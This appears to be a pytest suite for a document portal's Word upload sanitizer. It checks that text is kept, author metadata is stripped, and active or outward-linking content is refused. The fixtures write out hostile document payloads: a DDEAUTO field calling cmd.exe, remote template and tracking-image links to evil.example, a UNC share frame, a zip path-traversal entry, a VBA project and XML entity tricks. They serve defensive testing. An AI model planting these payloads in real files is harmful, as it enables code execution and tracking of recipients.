"""Word documents: only text comes in, packed anew, and only where a form asks for it."""

import io
import zipfile

import pytest
from docx import Document
from werkzeug.datastructures import FileStorage

from portal.errors import RuleError
from portal.files.cleaning.word import ACTIVE, BROKEN, TOO_LARGE
from portal.files.intake import NO_WORD, WORD, inspect
from portal.files.models import Attachment

SPACE = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
OUTSIDE = '<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{}" Target="{}" TargetMode="External"/>'


def text(*lines: str) -> bytes:
    written, document = io.BytesIO(), Document()
    for each in lines or ("赔偿五千元。",):
        document.add_paragraph(each)
    document.core_properties.author = "王小明"
    document.save(written)
    return written.getvalue()


def repacked(change) -> bytes:
    """A document after `change` of its parts."""
    with zipfile.ZipFile(io.BytesIO(text())) as package:
        parts = {each: package.read(each) for each in package.namelist()}
    change(parts)
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED) as package:
        for name, body in parts.items():
            package.writestr(name, body)
    return written.getvalue()


def take(content: bytes, *, word: bool = True):
    return inspect(FileStorage(io.BytesIO(content), "修改稿.docx"), word=word)


def test_its_text_is_kept():
    clean = take(text("赔偿五千元。", "分两期付清。"))
    assert (clean.mime, clean.name) == (WORD, "修改稿.docx")
    assert [each.text for each in Document(io.BytesIO(clean.content)).paragraphs] == ["赔偿五千元。", "分两期付清。"]


def test_the_name_of_its_kind_fits_the_column():
    assert len(WORD) <= Attachment.__table__.c.mime.type.length


def test_who_wrote_it_is_not_kept():
    with zipfile.ZipFile(io.BytesIO(take(text()).content)) as package:
        assert not any("王小明".encode() in package.read(each) for each in package.namelist())


def test_it_comes_in_only_where_a_form_asks_for_it():
    with pytest.raises(RuleError, match=NO_WORD[:12]):
        take(text(), word=False)


def paragraph(inside: str):
    def change(parts: dict) -> None:
        body = parts["word/document.xml"]
        parts["word/document.xml"] = body.replace(b"<w:sectPr", f"<w:p>{inside}</w:p><w:sectPr".encode(), 1)

    return change


def field(instruction: str) -> str:
    marks = '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>{}</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
    return marks.format(instruction)


def part(name: str, body: bytes = b"x"):
    return lambda parts: parts.update({name: body})


def relation(kind: str, target: str):
    def change(parts: dict) -> None:
        name = "word/_rels/document.xml.rels"
        parts[name] = parts[name].replace(
            b"</Relationships>", OUTSIDE.format(kind, target).encode() + b"</Relationships>"
        )

    return change


@pytest.mark.parametrize(
    "change",
    [
        part("word/vbaProject.bin"),
        part("word/embeddings/oleObject1.bin"),
        part("word/media/image9.png", b"MZ no picture"),
        part("word/../../evil.xml", b"<a/>"),
        paragraph("<w:object/>"),
        paragraph('<w:altChunk xmlns:r="urn:r" r:id="rId1"/>'),
        paragraph(field(" DDEAUTO c:\\\\windows\\\\cmd.exe ")),
        paragraph(field(" INCLUDETEXT ") + field("PAGE")),
        paragraph(field("</w:instrText></w:r><w:r><w:instrText>D</w:instrText></w:r><w:r><w:instrText>DE x")),
        paragraph('<w:fldSimple w:instr="INCLUDEPICTURE x"/>'),
        relation("attachedTemplate", "http://evil.example/a.dotm"),
        relation("image", "http://evil.example/seen.png"),
        relation("frame", "file:////evil/share"),
    ],
)
def test_what_acts_or_leads_elsewhere_is_refused(change):
    with pytest.raises(RuleError, match=ACTIVE[:20]):
        take(repacked(change))


@pytest.mark.parametrize(
    "change", [paragraph(field(" PAGE \\\\* MERGEFORMAT ")), relation("hyperlink", "https://www.gov.cn/")]
)
def test_page_numbers_and_links_to_click_stay(change):
    assert take(repacked(change)).mime == WORD


def test_entities_are_refused():
    def declare(parts: dict) -> None:
        body = parts["word/document.xml"].partition(b"?>")[2]
        parts["word/document.xml"] = b'<!DOCTYPE a [<!ENTITY b "cccccccc">]>' + body

    with pytest.raises(RuleError, match=ACTIVE[:20]):
        take(repacked(declare))


def test_one_that_swells_is_refused():
    with pytest.raises(RuleError, match=TOO_LARGE[:15]):
        take(repacked(part("word/comments.xml", b"<a>" + b" " * 90_000_000 + b"</a>")))


def test_a_damaged_one_says_so():
    with pytest.raises(RuleError, match=BROKEN[:15]):
        take(repacked(part("word/comments.xml", b"<a>")))


@pytest.mark.parametrize("content", [b"<script>" + text(), text() + b"<script>"])
def test_nothing_stands_before_or_behind_it(content):
    with pytest.raises(RuleError):
        take(content)
